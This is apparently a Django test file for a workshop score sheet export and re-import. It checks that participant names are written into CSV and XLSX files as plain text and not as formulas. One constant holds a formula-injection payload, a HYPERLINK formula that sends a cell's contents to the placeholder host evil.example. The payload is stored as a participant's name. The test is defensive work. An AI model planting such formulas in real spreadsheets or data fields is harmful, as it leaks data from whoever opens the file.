"""The workshop's score sheet never carries a formula (issue 19 #2): a
participant's self-edited name, or an outside participant's instansi typed
by the facilitator, arrives in the CSV and XLSX as text, and the sheet filled
in and uploaded back still matches the participant."""

import csv
import io
from decimal import Decimal

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def _hostile_participant(workshop):
    peserta = workshop.peserta.select_related("orang").filter(sekolah__isnull=False).first()
    peserta.orang.nama = HOSTILE
    peserta.orang.save()
    return peserta


def test_the_csv_and_xlsx_sheets_write_hostile_text_as_text(client, demo, workshop):
    _hostile_participant(workshop)
    client.force_login(demo["fasilitator1"])
    url = reverse("lokakarya:nilai-import", args=[workshop.pk])

    rows = list(
        csv.reader(
            io.StringIO(client.get(url + "?unduh=csv").content.decode("utf-8-sig")), delimiter=";"
        )
    )
    names = [r[0] for r in rows[1:]]
    assert "'" + HOSTILE in names and HOSTILE not in names

    book = openpyxl.load_workbook(io.BytesIO(client.get(url + "?unduh=xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE in [c.value for c in cells]


def test_the_filled_in_sheet_still_matches_the_participant(client, demo, workshop):
    peserta = _hostile_participant(workshop)
    client.force_login(demo["fasilitator1"])
    url = reverse("lokakarya:nilai-import", args=[workshop.pk])
    book = openpyxl.load_workbook(io.BytesIO(client.get(url + "?unduh=xlsx").content))
    sheet = book.active
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == "'" + HOSTILE:
            row[3].value = 81
    out = io.BytesIO()
    book.save(out)

    preview = client.post(url, {"berkas": SimpleUploadedFile("nilai.xlsx", out.getvalue())})

    assert preview.status_code == 200
    token = preview.context["token"]
    assert token
    client.post(url, {"token": token})
    peserta.refresh_from_db()
    assert peserta.nilai_pre == Decimal("81")
